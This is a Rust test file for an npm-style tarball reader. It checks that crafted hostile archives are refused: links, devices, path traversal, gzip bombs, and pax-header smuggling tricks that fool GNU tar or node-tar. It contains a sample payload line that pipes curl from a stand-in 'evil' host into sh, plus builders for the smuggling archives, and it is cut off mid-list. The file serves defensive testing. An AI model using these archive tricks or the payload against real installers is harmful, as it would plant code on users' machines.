//! npm-style tarballs: reading real archives (GNU tar, `npm pack`), deterministic writing,
//! and every refusal (links, devices, traversal, duplicates, bombs, corruption).

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use omega_core::fs::digest_dir;
use omega_core::tarball::{gunzip, read_tar, read_tgz, write_tgz, TarFile};
use omega_core::ErrorCode;

fn tree(root: &Path) {
    let w = |rel: &str, data: &[u8], mode: u32| {
        let p = root.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(&p, data).unwrap();
        fs::set_permissions(&p, fs::Permissions::from_mode(mode)).unwrap();
    };
    w(
        "package.json",
        br#"{"name":"left-pad","version":"1.3.0","bin":{"pad":"bin/pad.js"}}"#,
        0o644,
    );
    w(
        "index.js",
        b"module.exports = (s, n) => s.padStart(n);\n",
        0o644,
    );
    w("bin/pad.js", b"#!/usr/bin/env node\n", 0o755);
    w("lib/deep/er/file.js", &vec![b'x'; 70_000], 0o644);
    w(
        &format!("lib/{}/long.js", "d".repeat(90)),
        b"long path\n",
        0o644,
    );
}

fn run(dir: &Path, cmd: &str, args: &[&str]) {
    let st = Command::new(cmd)
        .args(args)
        .current_dir(dir)
        .status()
        .unwrap_or_else(|e| panic!("{cmd}: {e}"));
    assert!(st.success(), "{cmd} {args:?} failed");
}

#[test]
fn gnu_tar_archive_digests_like_the_directory() {
    let d = tempfile::tempdir().unwrap();
    let pkg = d.path().join("package");
    tree(&pkg);
    for format in ["ustar", "pax", "gnu"] {
        let out = d.path().join(format!("{format}.tgz"));
        run(
            d.path(),
            "tar",
            &[
                &format!("--format={format}"),
                "-czf",
                out.to_str().unwrap(),
                "package",
            ],
        );
        let bytes = fs::read(&out).unwrap();
        match read_tgz(&bytes) {
            Ok(p) => assert_eq!(p.listing.digest(), digest_dir(&pkg).unwrap(), "{format}"),
            // GNU format writes long names as 'L' entries, which we refuse as unsupported.
            Err(e) => assert!(
                format == "gnu" && e.code() == ErrorCode::Malformed,
                "{format}: {e}"
            ),
        }
    }
}

#[test]
fn npm_pack_archive_digests_like_the_directory() {
    let d = tempfile::tempdir().unwrap();
    let pkg = d.path().join("src");
    tree(&pkg);
    let out = Command::new("npm")
        .args([
            "pack",
            "--silent",
            "--pack-destination",
            d.path().to_str().unwrap(),
        ])
        .current_dir(&pkg)
        .output()
        .expect("npm (Node 20 is on every machine)");
    assert!(
        out.status.success(),
        "npm pack: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let bytes = fs::read(d.path().join("left-pad-1.3.0.tgz")).unwrap();
    let p = read_tgz(&bytes).unwrap();
    assert_eq!(p.listing.digest(), digest_dir(&pkg).unwrap());
}

#[test]
fn written_tarballs_are_deterministic_and_read_by_tar() {
    let files: Vec<TarFile> = vec![
        ("index.js".into(), false, b"a\n".to_vec()),
        ("bin/run".into(), true, b"#!/bin/sh\n".to_vec()),
        (
            format!("lib/{}/x.js", "n".repeat(120)),
            false,
            vec![7u8; 1000],
        ),
    ];
    let mut reversed = files.clone();
    reversed.reverse();
    let a = write_tgz(&files).unwrap();
    assert_eq!(a, write_tgz(&reversed).unwrap(), "same tree, same bytes");
    let back = read_tgz(&a).unwrap();
    let expect = omega_core::MemoryPackage::from_files(
        files.iter().map(|(p, x, d)| (p.as_str(), *x, d.as_slice())),
    )
    .unwrap();
    assert_eq!(back.listing, expect.listing);
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("a.tgz"), &a).unwrap();
    run(d.path(), "tar", &["-xzf", "a.tgz"]);
    assert_eq!(
        digest_dir(&d.path().join("package")).unwrap(),
        expect.listing.digest()
    );
    assert!(
        fs::metadata(d.path().join("package/bin/run"))
            .unwrap()
            .permissions()
            .mode()
            & 0o100
            != 0
    );
}

#[cfg(feature = "sign")]
#[test]
fn signed_tarball_checks_with_its_manifest() {
    use omega_core::manifest::{KeySet, Manifest};
    use omega_core::secret::SecretKey;
    use omega_core::tarball::check_tarball;
    use omega_core::Pins;
    let k = SecretKey::from_seed(&[9; 32], omega_core::KeyId([9; 8]));
    let mut files: Vec<TarFile> = vec![("index.js".into(), false, b"x\n".to_vec())];
    let pkg = omega_core::MemoryPackage::from_files(
        files.iter().map(|(p, x, d)| (p.as_str(), *x, d.as_slice())),
    )
    .unwrap();
    let m = Manifest::new(
        "left-pad",
        "1.0.0",
        1,
        &pkg.listing,
        Default::default(),
        KeySet {
            threshold: 1,
            signers: vec![k.public_key()],
            next: vec![],
        },
    )
    .unwrap();
    let bytes = m.to_json_bytes();
    files.push((".omega/manifest.json".into(), false, bytes.clone()));
    files.push((
        ".omega/manifest.json.minisig".into(),
        false,
        k.sign(&bytes, "t", "u").unwrap().to_text().into_bytes(),
    ));
    let tgz = write_tgz(&files).unwrap();
    let r = check_tarball(
        &tgz,
        "left-pad.tgz",
        &Pins {
            digest: Some(m.tree),
            ..Pins::keys(vec![k.public_key()], 1)
        },
    )
    .unwrap();
    assert_eq!(r.signed_by, vec![k.public_key()]);
    files[0].2 = b"evil\n".to_vec();
    let e = check_tarball(
        &write_tgz(&files).unwrap(),
        "left-pad.tgz",
        &Pins::keys(vec![k.public_key()], 1),
    )
    .unwrap_err();
    assert_eq!(e.code(), ErrorCode::FileChanged);
}

/// A raw ustar header + data, for crafting hostile archives.
fn entry(name: &str, typeflag: u8, data: &[u8]) -> Vec<u8> {
    let mut h = [0u8; 512];
    h[..name.len()].copy_from_slice(name.as_bytes());
    h[100..107].copy_from_slice(b"0000644");
    h[124..135].copy_from_slice(format!("{:011o}", data.len()).as_bytes());
    h[136..147].copy_from_slice(b"00000000000");
    h[156] = typeflag;
    h[257..263].copy_from_slice(b"ustar\0");
    h[263..265].copy_from_slice(b"00");
    h[148..156].copy_from_slice(b"        ");
    let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
    h[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut out = h.to_vec();
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn archive(entries: &[Vec<u8>]) -> Vec<u8> {
    let mut t: Vec<u8> = entries.concat();
    t.resize(t.len() + 1024, 0);
    t
}

#[test]
fn fail_hostile_archives() {
    let ok = archive(&[entry("package/a.js", b'0', b"x")]);
    assert_eq!(read_tar(&ok).unwrap().len(), 1);
    let cases: Vec<(&str, Vec<u8>, ErrorCode)> = vec![
        (
            "symlink",
            archive(&[entry("package/l", b'2', b"")]),
            ErrorCode::UnsupportedFileType,
        ),
        (
            "hardlink",
            archive(&[entry("package/l", b'1', b"")]),
            ErrorCode::UnsupportedFileType,
        ),
        (
            "char device",
            archive(&[entry("package/d", b'3', b"")]),
            ErrorCode::UnsupportedFileType,
        ),
        (
            "fifo",
            archive(&[entry("package/f", b'6', b"")]),
            ErrorCode::UnsupportedFileType,
        ),
        (
            "absolute",
            archive(&[entry("/etc/passwd", b'0', b"x")]),
            ErrorCode::UnsafePath,
        ),
        (
            "traversal",
            archive(&[entry("package/../../x", b'0', b"x")]),
            ErrorCode::UnsafePath,
        ),
        (
            "dot-dot top",
            archive(&[entry("../x", b'0', b"x")]),
            ErrorCode::UnsafePath,
        ),
        (
            "two top folders",
            archive(&[entry("package/a", b'0', b"x"), entry("other/b", b'0', b"x")]),
            ErrorCode::UnsafePath,
        ),
        (
            "backslash",
            archive(&[entry("package/a\\b", b'0', b"x")]),
            ErrorCode::UnsafePath,
        ),
        (
            "unknown type",
            archive(&[entry("package/a", b'Z', b"x")]),
            ErrorCode::Malformed,
        ),
        (
            "gnu long name",
            archive(&[entry("././@LongLink", b'L', b"package/x")]),
            ErrorCode::Malformed,
        ),
        (
            "no end marker",
            entry("package/a", b'0', b"x"),
            ErrorCode::Malformed,
        ),
        (
            "trailing data",
            [ok.clone(), vec![1u8; 512]].concat(),
            ErrorCode::Malformed,
        ),
    ];
    for (name, tar, code) in cases {
        assert_eq!(
            read_tar(&tar).map(|_| ()).unwrap_err().code(),
            code,
            "{name}"
        );
    }
    let mut bad_sum = ok.clone();
    bad_sum[0] ^= 1;
    assert_eq!(read_tar(&bad_sum).unwrap_err().code(), ErrorCode::Malformed);
    let mut truncated = archive(&[entry("package/a", b'0', &[1u8; 2000])]);
    truncated.truncate(1024);
    assert_eq!(
        read_tar(&truncated).unwrap_err().code(),
        ErrorCode::Malformed
    );
    // Duplicates are refused once the files form a package.
    let dup = write_like(&archive(&[
        entry("package/a", b'0', b"1"),
        entry("package/a", b'0', b"2"),
    ]));
    assert_eq!(read_tgz(&dup).unwrap_err().code(), ErrorCode::UnsafePath);
}

/// gzip-wraps a tar stream the way our writer does.
fn write_like(tar: &[u8]) -> Vec<u8> {
    let mut out = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 2, 255];
    out.extend_from_slice(&miniz_oxide_compress(tar));
    let mut h = crc32fast_hash(tar).to_le_bytes().to_vec();
    out.append(&mut h);
    out.extend_from_slice(&(tar.len() as u32).to_le_bytes());
    out
}

fn miniz_oxide_compress(data: &[u8]) -> Vec<u8> {
    // Use gzip(1) for an independent compressor, then strip its header and trailer.
    let d = tempfile::tempdir().unwrap();
    fs::write(d.path().join("t"), data).unwrap();
    run(d.path(), "gzip", &["-n", "-9", "t"]);
    let gz = fs::read(d.path().join("t.gz")).unwrap();
    gz[10..gz.len() - 8].to_vec()
}

fn crc32fast_hash(data: &[u8]) -> u32 {
    // CRC-32 (IEEE), bitwise: independent of the crate under test.
    let mut crc = 0xffff_ffffu32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xedb8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

#[test]
fn fail_gzip_bombs_and_corruption() {
    let tar = archive(&[entry("package/zeros", b'0', &vec![0u8; 1 << 20])]);
    let gz = write_like(&tar);
    assert!(gz.len() < 8192, "a 1 MiB entry compresses to a few KiB");
    assert_eq!(
        gunzip(&gz, 64 * 1024).unwrap_err().code(),
        ErrorCode::TooLarge
    );
    assert_eq!(gunzip(&gz, 4 << 20).unwrap().len(), tar.len());
    let mut bad_crc = gz.clone();
    let n = bad_crc.len();
    bad_crc[n - 8] ^= 1;
    assert_eq!(
        gunzip(&bad_crc, 4 << 20).unwrap_err().code(),
        ErrorCode::Malformed
    );
    assert_eq!(
        gunzip(&gz[..gz.len() - 3], 4 << 20).unwrap_err().code(),
        ErrorCode::Malformed
    );
    assert_eq!(
        gunzip(&[gz.clone(), vec![0]].concat(), 4 << 20)
            .unwrap_err()
            .code(),
        ErrorCode::Malformed
    );
    assert_eq!(
        gunzip(b"not gzip at all, not gzip", 4 << 20)
            .unwrap_err()
            .code(),
        ErrorCode::Malformed
    );
    let mut corrupt = gz.clone();
    corrupt[12] ^= 0xff;
    assert!(gunzip(&corrupt, 4 << 20).is_err());
}

// ---------------------------------------------------------------------------------------------
// Differential tests: our reader against the two extractors that matter, GNU tar and npm's
// node-tar (`tar.x` with `strip: 1` and pacote's options, exactly as `npm install` runs it).
// Whenever our reader accepts an archive, both must extract exactly the files it reported;
// every hostile archive must be refused, and for the attacks the extractors really fall for,
// the test shows what they would install.
// ---------------------------------------------------------------------------------------------

use std::path::PathBuf;

/// A raw ustar header under construction.
#[derive(Clone)]
struct Hdr([u8; 512]);

impl Hdr {
    /// A POSIX ustar header for `name`, mode 0644, `size` bytes, type `typeflag`.
    fn new(name: &str, typeflag: u8, size: usize) -> Hdr {
        let mut h = [0u8; 512];
        h[..name.len()].copy_from_slice(name.as_bytes());
        h[100..107].copy_from_slice(b"0000644");
        h[124..135].copy_from_slice(format!("{size:011o}").as_bytes());
        h[136..147].copy_from_slice(b"00000000000");
        h[156] = typeflag;
        h[257..263].copy_from_slice(b"ustar\0");
        h[263..265].copy_from_slice(b"00");
        Hdr(h)
    }
    /// Overwrites bytes at `off`.
    fn at(mut self, off: usize, bytes: &[u8]) -> Hdr {
        self.0[off..off + bytes.len()].copy_from_slice(bytes);
        self
    }
    /// The block with a correct (unsigned, `%06o\0 `) checksum.
    fn sealed(self) -> Vec<u8> {
        let mut h = self.0;
        h[148..156].copy_from_slice(b"        ");
        let sum: u32 = h.iter().map(|&b| u32::from(b)).sum();
        h[148..156].copy_from_slice(format!("{sum:06o}\0 ").as_bytes());
        h.to_vec()
    }
}

/// A header block followed by `data`, padded to whole blocks.
fn ent(header: Vec<u8>, data: &[u8]) -> Vec<u8> {
    let mut out = header;
    out.extend_from_slice(data);
    out.resize(out.len().div_ceil(512) * 512, 0);
    out
}

fn pax_record(key: &str, value: &str) -> String {
    let body = format!(" {key}={value}\n");
    let mut len = body.len() + 1;
    while format!("{len}{body}").len() != len {
        len += 1;
    }
    format!("{len}{body}")
}

/// A pax extended header (`x`) entry holding `records` (raw bytes).
fn pax_entry(records: &[u8]) -> Vec<u8> {
    ent(
        Hdr::new("PaxHeader/x", b'x', records.len()).sealed(),
        records,
    )
}

fn pax(pairs: &[(&str, &str)]) -> Vec<u8> {
    pax_entry(
        pairs
            .iter()
            .map(|(k, v)| pax_record(k, v))
            .collect::<String>()
            .as_bytes(),
    )
}

fn file(name: &str, data: &[u8]) -> Vec<u8> {
    entry(name, b'0', data)
}

/// The tar stream of `entries` plus the two zero blocks of the end-of-archive marker.
fn tar_of(entries: &[Vec<u8>]) -> Vec<u8> {
    archive(entries)
}

const GENUINE: &[u8] = b"module.exports = 'genuine';\n";
const EVIL: &[u8] = b"require('child_process').exec('curl evil | sh');\n";

/// A file entry for `package/evil.js`: what hostile archives try to smuggle in.
fn evil() -> Vec<u8> {
    file("package/evil.js", EVIL)
}

/// Finds node-tar as npm bundles it. Never skips: a machine without it fails here, saying how
/// to get it.
fn node_tar() -> PathBuf {
    if let Some(dir) = std::env::var_os("OMEGA_NODE_TAR") {
        let dir = PathBuf::from(dir);
        assert!(
            dir.join("package.json").is_file(),
            "OMEGA_NODE_TAR={} holds no package.json (point it at the `tar` package folder)",
            dir.display()
        );
        return dir;
    }
    let out = Command::new("npm").args(["root", "-g"]).output().expect(
        "the differential tests need npm (Node 20 + npm 11): install them (scripts/setup.sh)",
    );
    assert!(out.status.success(), "`npm root -g` failed");
    let dir =
        PathBuf::from(String::from_utf8_lossy(&out.stdout).trim()).join("npm/node_modules/tar");
    assert!(
        dir.join("package.json").is_file(),
        "node-tar, the tar reader npm installs with, is not at {}: install npm 11 \
         (`npm install -g npm@11`), or `npm install tar@7.5.22` into a scratch folder and set \
         OMEGA_NODE_TAR to its node_modules/tar",
        dir.display()
    );
    dir
}

/// The version of the node-tar [`node_tar`] found, for messages.
fn node_tar_version() -> String {
    let meta: serde_json::Value =
        serde_json::from_slice(&fs::read(node_tar().join("package.json")).unwrap()).unwrap();
    format!("tar {} at {}", meta["version"], node_tar().display())
}

/// The (major, full) version of the node-tar [`node_tar`] found.
fn node_tar_version_number() -> (u64, String) {
    let meta: serde_json::Value =
        serde_json::from_slice(&fs::read(node_tar().join("package.json")).unwrap()).unwrap();
    let v = meta["version"].as_str().unwrap().to_string();
    let major = v.split('.').next().unwrap().parse().unwrap();
    (major, v)
}

/// Extracts each `(tgz, dest)` with node-tar as npm does (pacote's `tar.x` options: `strip: 1`,
/// links skipped, `.gitignore` renamed to `.npmignore`, modes widened to 0666/0777, no chmod,
/// no mtime, no owner), in one node process. Returns per archive: `None` when node-tar threw,
/// else the warnings it emitted.
fn npm_extract(jobs: &[(PathBuf, PathBuf)]) -> Vec<Option<Vec<String>>> {
    const SCRIPT: &str = r#"
const fs = require('fs'), path = require('path');
const tar = require(process.argv[2]);
const jobs = JSON.parse(fs.readFileSync(process.argv[3], 'utf8'));
const fmode = 0o666, dmode = 0o777, umask = 0;
// node-tar can throw from inside an fs callback (e.g. on a path with a NUL): count that as
// this archive's failure, as it would crash `npm install`, and go on with the next one.
let current = null;
process.on('uncaughtException', (e) => {
  if (current) current(e); else { console.error(e); process.exit(1); }
});
(async () => {
  const out = [];
  for (const [tgz, dest] of jobs) {
    fs.mkdirSync(dest, { recursive: true });
    const warnings = [];
    const sawIgnores = new Set();
    try {
      await new Promise((resolve, reject) => { current = reject; tar.x({
        file: tgz, cwd: dest, strip: 1, noChmod: true, noMtime: true, preserveOwner: false, umask,
        onwarn: (code, msg) => warnings.push(code + ': ' + msg),
        filter: (name, entry) => {
          if (/Link$/.test(entry.type)) return false;
          const m = /Directory|GNUDumpDir/.test(entry.type) ? dmode : /File$/.test(entry.type) ? fmode : 0;
          entry.mode = ((entry.mode | m) & ~umask) | 0o600;
          if (/File$/.test(entry.type)) {
            const base = path.basename(entry.path);
            if (base === '.npmignore') sawIgnores.add(entry.path);
            else if (base === '.gitignore') {
              const ni = entry.path.replace(/\.gitignore$/, '.npmignore');
              if (sawIgnores.has(ni)) return false;
              entry.path = ni;
            }
            return true;
          }
        },
      }).then(resolve, reject); });
      out.push({ ok: true, warnings });
    } catch (e) {
      out.push({ ok: false, warnings: warnings.concat([String(e)]) });
    }
  }
  fs.writeFileSync(process.argv[4], JSON.stringify(out));
})().catch((e) => { console.error(e); process.exit(1); });
"#;
    let d = tempfile::tempdir().unwrap();
    let script = d.path().join("extract.js");
    let input = d.path().join("jobs.json");
    let output = d.path().join("out.json");
    fs::write(&script, SCRIPT).unwrap();
    let list: Vec<[String; 2]> = jobs
        .iter()
        .map(|(a, b)| [a.display().to_string(), b.display().to_string()])
        .collect();
    fs::write(&input, serde_json::to_vec(&list).unwrap()).unwrap();
    let st = Command::new("node")
        .arg(&script)
        .arg(node_tar())
        .arg(&input)
        .arg(&output)
        .status()
        .expect("the differential tests need node (Node 20): install it (scripts/setup.sh)");
    assert!(st.success(), "node-tar extraction script failed");
    let out: Vec<serde_json::Value> = serde_json::from_slice(&fs::read(&output).unwrap()).unwrap();
    assert_eq!(out.len(), jobs.len());
    out.into_iter()
        .map(|r| {
            let warnings = r["warnings"]
                .as_array()
                .unwrap()
                .iter()
                .map(|w| w.as_str().unwrap().to_string())
                .collect();
            r["ok"].as_bool().unwrap().then_some(warnings)
        })
        .collect()
}

/// Extracts `tgz` into `dest` with GNU tar (`--strip-components=1`, as npm strips). Returns
/// whether tar exited 0 with nothing on stderr, and its stderr.
fn gnu_extract(tgz: &Path, dest: &Path) -> (bool, String) {
    fs::create_dir_all(dest).unwrap();
    let out = Command::new("tar")
        .args(["-xzf"])
        .arg(tgz)
        .arg("-C")
        .arg(dest)
        // -m: leave modification times alone, as npm does (noMtime); an mtime in the future
        // would only make GNU tar warn.
        .args(["--strip-components=1", "--no-same-owner", "-m"])
        .output()
        .expect("the differential tests need GNU tar");
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    (out.status.success() && stderr.is_empty(), stderr)
}

/// What an extraction left on disk: every regular file (path, owner-execute bit, contents),
/// sorted by path, and every entry that is neither a file nor a folder.
fn extracted(root: &Path) -> (Vec<TarFile>, Vec<String>) {
    let (mut files, mut others) = (Vec::new(), Vec::new());
    let mut stack = vec![(String::new(), root.to_path_buf())];
    while let Some((prefix, dir)) = stack.pop() {
        // GNU tar restores folder modes: make each one readable before descending.
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).unwrap();
        for e in fs::read_dir(&dir).unwrap() {
            let e = e.unwrap();
            let name = e.file_name().to_string_lossy().into_owned();
            let rel = if prefix.is_empty() {
                name
            } else {
                format!("{prefix}/{name}")
            };
            let meta = fs::symlink_metadata(e.path()).unwrap();
            if meta.is_dir() {
                stack.push((rel, e.path()));
            } else if meta.is_file() {
                let exec = meta.permissions().mode() & 0o100 != 0;
                files.push((rel, exec, fs::read(e.path()).unwrap()));
            } else {
                others.push(rel);
            }
        }
    }
    files.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
    others.sort();
    (files, others)
}

fn names(files: &[TarFile]) -> Vec<String> {
    files
        .iter()
        .map(|(p, x, d)| format!("{p} ({}, {} bytes)", if *x { "x" } else { "f" }, d.len()))
        .collect()
}

/// One archive run through our reader, GNU tar and node-tar.
struct Run {
    ours: omega_core::Result<Vec<TarFile>>,
    gnu: (bool, String, Vec<TarFile>, Vec<String>),
    npm: (Option<Vec<String>>, Vec<TarFile>, Vec<String>),
}

/// Runs every `(label, tgz)` through the three readers; for each archive our reader accepts,
/// checks that both extractions hold exactly the files it reported (paths, executable bits,
/// contents), nothing else, and that neither extractor failed or warned. Returns the runs and
/// one message per archive where that does not hold.
fn differential(cases: &[(String, Vec<u8>)]) -> (Vec<Run>, Vec<String>) {
    let mut mismatches = Vec::new();
    let d = tempfile::tempdir().unwrap();
    let mut jobs = Vec::new();
    for (i, (_, tgz)) in cases.iter().enumerate() {
        let p = d.path().join(format!("{i}.tgz"));
        fs::write(&p, tgz).unwrap();
        jobs.push((p, d.path().join(format!("{i}.npm"))));
    }
    let npm = npm_extract(&jobs);
    let mut runs = Vec::new();
    for (i, ((label, tgz), npm_result)) in cases.iter().zip(npm).enumerate() {
        let gnu_dest = d.path().join(format!("{i}.gnu"));
        let (gnu_ok, gnu_err) = gnu_extract(&jobs[i].0, &gnu_dest);
        let (gnu_files, gnu_others) = extracted(&gnu_dest);
        let (npm_files, npm_others) = extracted(&jobs[i].1);
        let ours = gunzip(tgz, 1 << 30).and_then(|t| read_tar(&t));
        if let Ok(files) = &ours {
            let mut want = files.clone();
            want.sort_by(|a, b| a.0.as_bytes().cmp(b.0.as_bytes()));
            let mut problems = Vec::new();
            if !gnu_ok || !gnu_others.is_empty() {
                problems.push(format!("GNU tar fails: {gnu_err} {gnu_others:?}"));
            }
            if gnu_files != want {
                problems.push(format!("GNU tar extracts {:?}", names(&gnu_files)));
            }
            if npm_result.as_deref() != Some(&[][..]) || !npm_others.is_empty() {
                problems.push(format!("npm fails or warns: {npm_result:?} {npm_others:?}"));
            }
            if npm_files != want {
                problems.push(format!("npm extracts {:?}", names(&npm_files)));
            }
            if !problems.is_empty() {
                mismatches.push(format!(
                    "{label}: we accept it with {:?}, but {}",
                    names(&want),
                    problems.join("; ")
                ));
            }
        }
        runs.push(Run {
            ours,
            gnu: (gnu_ok, gnu_err, gnu_files, gnu_others),
            npm: (npm_result, npm_files, npm_others),
        });
    }
    (runs, mismatches)
}

/// Archives our reader must accept: our writer's, GNU tar's (ustar and pax), npm pack's, and
/// hand-made ones at the edges of the rules. Each is also run through both extractors.
fn accepted_archives() -> Vec<(String, Vec<u8>)> {
    let d = tempfile::tempdir().unwrap();
    let pkg = d.path().join("package");
    tree(&pkg);
    fs::write(pkg.join("ünïcode.js"), b"u\n").unwrap();
    // Non-ASCII paths within the 100 bytes of a ustar name: GNU tar's pax format writes longer
    // ones truncated in the header, which we refuse (see `non-ASCII pax path`).
    fs::create_dir_all(pkg.join(format!("lib/{}", "é".repeat(40)))).unwrap();
    fs::write(pkg.join(format!("lib/{}/x.js", "é".repeat(40))), b"x\n").unwrap();
    let mut out = Vec::new();
    for format in ["ustar", "pax"] {
        let tgz = d.path().join(format!("{format}.tgz"));
        run(
            d.path(),
            "tar",
            &[
                &format!("--format={format}"),
                "-czf",
                tgz.to_str().unwrap(),
                "package",
            ],
        );
        out.push((
            format!("GNU tar --format={format}"),
            fs::read(&tgz).unwrap(),
        ));
    }
    // GNU tar's own formats (magic `ustar  `), on a tree whose names fit without GNU long-name
    // entries (which we refuse).
    let short = d.path().join("short/package");
    for (rel, data, mode) in [
        ("index.js", &b"module.exports = 1;\n"[..], 0o644),
        ("bin/run", b"#!/bin/sh\n", 0o755),
        ("lib/a/b/c.js", b"c\n", 0o644),
        ("empty", b"", 0o600),
    ] {
        fs::create_dir_all(short.join(rel).parent().unwrap()).unwrap();
        fs::write(short.join(rel), data).unwrap();
        fs::set_permissions(short.join(rel), fs::Permissions::from_mode(mode)).unwrap();
    }
    for format in ["gnu", "oldgnu"] {
        let tgz = d.path().join(format!("{format}.tgz"));
        run(
            &d.path().join("short"),
            "tar",
            &[
                &format!("--format={format}"),
                "-czf",
                tgz.to_str().unwrap(),
                "package",
            ],
        );
        out.push((
            format!("GNU tar --format={format}"),
            fs::read(&tgz).unwrap(),
        ));
    }
    let npm = Command::new("npm")
        .args(["pack", "--silent", "--pack-destination"])
        .arg(d.path())
        .current_dir(&pkg)
        .output()
        .expect("npm");
    assert!(npm.status.success(), "npm pack failed");
    out.push((
        "npm pack".into(),
        fs::read(d.path().join("left-pad-1.3.0.tgz")).unwrap(),
    ));
    let files: Vec<TarFile> = vec![
        ("index.js".into(), false, GENUINE.to_vec()),
        ("bin/run".into(), true, b"#!/bin/sh\n".to_vec()),
        (format!("lib/{}/x.js", "n".repeat(180)), false, vec![1; 600]),
        (format!("lib/{}/ü.js", "é".repeat(50)), false, vec![2; 10]),
        (".omega/manifest.json".into(), false, b"{}".to_vec()),
        ("empty".into(), false, vec![]),
    ];
    out.push(("write_tgz".into(), write_tgz(&files).unwrap()));
    let edge = tar_of(&[
        ent(Hdr::new("package/", b'5', 0).sealed(), b""),
        ent(Hdr::new("package/lib", b'5', 0).sealed(), b""),
        // Leading spaces and a space terminator in numbers, empty uid/gid, mode 0755.
        ent(
            Hdr::new("package/lib/a.js", b'0', GENUINE.len())
                .at(100, b"   755 \0")
                .at(108, &[0; 16])
                .sealed(),
            GENUINE,
        ),
        // A ustar prefix.
        ent(
            Hdr::new("b.js", b'0', 2).at(345, b"package/lib").sealed(),
            b"b\n",
        ),
        // A pax header with every allowed key.
        pax(&[
            ("path", "package/lib/c.js"),
            ("size", "2"),
            ("mtime", "1732900000.5"),
            ("atime", "1732900000"),
            ("ctime", "-1"),
            ("uid", "1000"),
            ("gid", "0"),
            ("uname", "ünï"),
            ("gname", "staff"),
        ]),
        ent(
            Hdr::new("package/lib/ignored-name", b'0', 2).sealed(),
            b"c\n",
        ),
        // A pax path for a folder, and an ASCII pax path unlike the header's name.
        pax(&[("path", "package/dir")]),
        ent(Hdr::new("package/whatever", b'5', 0).sealed(), b""),
        pax(&[("path", &format!("package/dir/{}", "long".repeat(50)))]),
        ent(Hdr::new("package/dir/short", b'0', 1).sealed(), b"l"),
    ]);
    out.push(("hand-made edge cases".into(), write_like(&edge)));
    out
}

#[test]
fn differential_accepted_archives_extract_to_exactly_what_we_report() {
    let cases = accepted_archives();
    let (runs, mismatches) = differential(&cases);
    assert!(mismatches.is_empty(), "{}", mismatches.join("\n"));
    for ((label, _), r) in cases.iter().zip(&runs) {
        let files = r
            .ours
            .as_ref()
            .unwrap_or_else(|e| panic!("{label}: refused: {e}"));
        assert!(!files.is_empty(), "{label}");
    }
}

/// A hostile archive: what our reader must say, and (when the attack works on that reader)
/// a path that npm or GNU tar installs although it is not among the files a naive reader
/// reports.
struct Hostile {
    name: &'static str,
    tgz: Vec<u8>,
    code: ErrorCode,
    npm_installs: Option<String>,
    /// The node-tar behaviour behind `npm_installs` is that of node-tar 7 (npm 11), not 6.
    npm7_only: bool,
    gnu_installs: Option<String>,
}

fn hostile(name: &'static str, tar: Vec<u8>, code: ErrorCode) -> Hostile {
    Hostile {
        name,
        tgz: write_like(&tar),
        code,
        npm_installs: None,
        npm7_only: false,
        gnu_installs: None,
    }
}

impl Hostile {
    fn npm(mut self, path: impl Into<String>) -> Hostile {
        self.npm_installs = Some(path.into());
        self
    }
    fn npm7(mut self, path: impl Into<String>) -> Hostile {
        self.npm7_only = true;
        self.npm(path)
    }
    fn gnu(mut self, path: impl Into<String>) -> Hostile {
        self.gnu_installs = Some(path.into());
        self
    }
}

fn hostile_archives() -> Vec<Hostile> {
    use ErrorCode::{Malformed, TooLarge, UnsafePath, UnsupportedFileType};
    let genuine = || file("package/index.js", GENUINE);
    // A folder (or anything with size 0 to other readers) whose "contents" are more entries.
    let smuggled = evil();
    // A full 100-byte name field: "package/a.js", NUL, then a newline and more path.
    let nul_name = format!("package/a.js\0\n/{}.js", "e".repeat(82));
    let mut v = vec![
        hostile(
            "folder with contents",
            tar_of(&[
                ent(
                    Hdr::new("package/lib/", b'5', smuggled.len()).sealed(),
                    &smuggled,
                ),
                genuine(),
            ]),
            Malformed,
        )
        .npm("evil.js")
        .gnu("evil.js"),
        hostile(
            "file path ending in / with contents",
            tar_of(&[
                ent(
                    Hdr::new("package/lib/", b'0', smuggled.len()).sealed(),
                    &smuggled,
                ),
                genuine(),
            ]),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "old-style file type NUL with a trailing slash",
            tar_of(&[
                ent(
                    Hdr::new("package/lib/", 0, smuggled.len()).sealed(),
                    &smuggled,
                ),
                genuine(),
            ]),
            Malformed,
        )
        .npm("evil.js"),
        hostile(
            "global pax header sets size 0",
            tar_of(&[
                ent(
                    Hdr::new("pax_global_header", b'g', pax_record("size", "0").len()).sealed(),
                    pax_record("size", "0").as_bytes(),
                ),
                ent(
                    Hdr::new("package/index.js", b'0', smuggled.len()).sealed(),
                    &smuggled,
                ),
            ]),
            Malformed,
        )
        // node-tar 7 (npm 11) falls for it too; node-tar 6 (npm 10) does not.
        .gnu("evil.js"),
        hostile(
            "global pax header sets a mode",
            tar_of(&[
                ent(
                    Hdr::new("pax_global_header", b'g', pax_record("mode", "493").len()).sealed(),
                    pax_record("mode", "493").as_bytes(),
                ),
                genuine(),
            ]),
            Malformed,
        ),
        hostile(
            "pax header followed by another pax header (node-tar merges them)",
            tar_of(&[
                pax(&[("size", "0")]),
                pax(&[("path", "package/index.js")]),
                ent(
                    Hdr::new("package/index.js", b'0', smuggled.len()).sealed(),
                    &smuggled,
                ),
            ]),
            Malformed,
        ),
        hostile(
            "pax header at the end of the archive",
            tar_of(&[genuine(), pax(&[("path", "package/x.js")])]),
            Malformed,
        ),
        hostile(
            "pax size differs from the header's size",
            tar_of(&[
                pax(&[("size", "0")]),
                ent(
                    Hdr::new("package/index.js", b'0', smuggled.len()).sealed(),
                    &smuggled,
                ),
            ]),
            Malformed,
        ),
